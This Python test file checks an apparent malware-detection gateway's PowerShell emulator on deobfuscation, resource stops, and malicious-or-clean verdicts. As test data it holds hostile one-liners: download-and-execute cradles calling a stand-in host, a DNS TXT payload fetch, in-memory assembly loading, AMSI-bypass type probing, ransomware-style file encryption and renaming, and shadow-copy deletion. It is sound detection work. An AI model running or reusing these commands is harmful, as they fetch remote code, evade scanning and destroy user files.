"""The environment `powershell`: what is worked out and what is not."""

from __future__ import annotations

import base64

import pytest

from gateway.emulation import Budget, Detonation, StopKind
from gateway.emulation.scripts import ScriptEnvironment
from gateway.model import Verdict
from tests.unit.emulation.judging import BUDGET, expect_stopped, ran, verdict_of


def _run(powershell: ScriptEnvironment, text: str, budget: Budget = BUDGET) -> Detonation:
    return ran(powershell, "s.ps1", "powershell", text, budget)


@pytest.mark.parametrize(
    ("code", "printed"),
    [
        ("Write-Host ('{1}{0}' -f 'b','a')", "ab"),
        ("Write-Host ([string]::Join('', [char[]](97,98)))", "ab"),
        ("Write-Host ('axbxc' -split 'x' -join '-')", "a-b-c"),
        ("Write-Host ('Hello' -creplace '(l+)','<$1>')", "He<ll>o"),
        ("Write-Host ('abc'[-1..-3] -join '')", "cba"),
        ('$a = 1,2,3; $a[1] = 9; Write-Host "$a $($a.Count)"', "1 9 3 3"),
        ("Write-Host (0x41 + 1), ([char]0x42)", "66 B"),
        ("function f($x, $y = 2) { $x * $y }; Write-Host (f 4)", "8"),
        ("$h = @{ a = 'x'; b = 'y' }; Write-Host $h.b$($h['a'])", "yx"),
        ("$s = ''; for ($i = 3; $i -gt 0; $i--) { $s += $i }; Write-Host $s", "321"),
        ("Write-Host ('a,b'.Split(',') | % { $_.ToUpper() })", "A B"),
        (
            "switch -wildcard ('abc') { 'a*' { Write-Host 'yes' } default { Write-Host 'no' } }",
            "yes",
        ),
        ("Write-Host ('{0:X2}' -f 255)", "FF"),
        ("w`rite-h`ost 'a`tb'", "a`tb"),
        ("& ('Write-' + 'Host') ok", "ok"),
        ("Write-Host @'\nline 'one'\n'@", "line 'one'"),
    ],
)
def test_constants_are_worked_out(powershell: ScriptEnvironment, code: str, printed: str) -> None:
    result = _run(powershell, code)
    assert result.output.decode() == printed
    assert result.stopped_by is None


@pytest.mark.parametrize(
    ("code", "kind"),
    [
        ("iex $env:NO_SUCH_THING_HERE.Length; iex (Get-Clipboard)", StopKind.INCOMPLETE),
        ("$a = (", StopKind.INCOMPLETE),
        ("Add-Type 'class A { void B() { Process.Start(\"a\"); } }'", StopKind.INCOMPLETE),
        ("class A { [void] B() { & $this.C } }", StopKind.INCOMPLETE),
        ("", StopKind.INCOMPLETE),
        ("$x = 'a'; while ($true) { $x += $x }", StopKind.MEMORY),
    ],
)
def test_what_was_not_worked_out_is_never_clean(
    powershell: ScriptEnvironment, code: str, kind: StopKind
) -> None:
    result = _run(powershell, code)
    expect_stopped(result, kind)


def test_libraries_of_the_machine_are_no_programs_in_memory(powershell: ScriptEnvironment) -> None:
    code = "[Reflection.Assembly]::LoadFrom('C:\\Program Files\\Example\\net.dll') | Out-Null"
    assert verdict_of(_run(powershell, code)) is Verdict.CLEAN


def test_a_loop_without_end_is_stopped(powershell: ScriptEnvironment) -> None:
    result = _run(
        powershell, "vssadmin delete shadows; while ($true) { $x++ }", Budget(seconds=0.3)
    )
    expect_stopped(result, StopKind.TIMED_OUT)
    assert verdict_of(result) is Verdict.MALICIOUS


def test_layers_are_followed_to_a_depth(powershell: ScriptEnvironment) -> None:
    code = "Write-Host deep"
    for _ in range(4):
        packed = base64.b64encode(code.encode("utf-16-le")).decode()
        code = f"iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('{packed}')))"
    assert _run(powershell, code).output == b"deep"
    endless = _run(powershell, "function f { iex 'f' } ; f")
    expect_stopped(endless, StopKind.INCOMPLETE)


def test_what_is_written_comes_back(powershell: ScriptEnvironment) -> None:
    result = _run(powershell, "Set-Content -Path $env:TEMP\\a.vbs -Value 'MsgBox 1'")
    assert [child.data for child in result.children] == [b"MsgBox 1"]


@pytest.mark.parametrize(
    "code",
    [
        "$w = New-Object Net.WebClient; iex (($w.DownloadString).Invoke('http://a.example/'))",
        "$b = (Resolve-DnsName a.example -Type TXT).Strings; powershell -c $b",
        "[AppDomain]::CurrentDomain.Load([byte[]](77,90,0)).EntryPoint.Invoke($null, $null)",
        "foreach ($t in [Ref].Assembly.GetTypes()) { if ($t.Name -like '*iUtils') { $t } }",
        "[Microsoft.VisualBasic.Interaction]::CallByName((New-Object Net.WebClient), 'Download' + "
        "'String', 'Method', 'http://a.example/') | iex",
        "Get-ChildItem $HOME -Recurse -Include *.docx, *.xlsx, *.pdf, *.jpg | ForEach-Object { "
        "[IO.File]::WriteAllBytes($_.FullName + '.locked', $e); Remove-Item $_.FullName }",
        "Get-ChildItem $HOME\\Documents -Recurse | Rename-Item -NewName { $_.Name + '.locked' }",
    ],
)
def test_ways_around_a_name_are_followed(powershell: ScriptEnvironment, code: str) -> None:
    assert verdict_of(_run(powershell, code)) is Verdict.MALICIOUS


@pytest.mark.parametrize(
    "code",
    [
        "iex ((New-Object Net.WebClient).DownloadString('https://community.chocolatey.org/"
        "install.ps1'))",
        "[Microsoft.UpdateServices.Administration.AdminProxy]::GetUpdateServer('wsus', $false)",
        "enum L { A; B }; class C { [int] $n; [int] Twice() { return $this.n * 2 } }; [C]::new()",
        '1..20 | % { [Net.Dns]::GetHostEntry("192.0.2.$_") }',
        "Get-ChildItem $HOME\\Documents -Filter *.docx | Copy-Item -Destination D:\\Backup",
    ],
)
def test_work_of_administrators_is_clean(powershell: ScriptEnvironment, code: str) -> None:
    result = _run(powershell, code)
    assert (verdict_of(result), result.stopped_by) == (Verdict.CLEAN, None)


def test_only_the_installers_own_address_is_known(powershell: ScriptEnvironment) -> None:
    code = "iex (irm 'http://community.chocolatey.org/install.ps1')"
    assert verdict_of(_run(powershell, code)) is Verdict.MALICIOUS
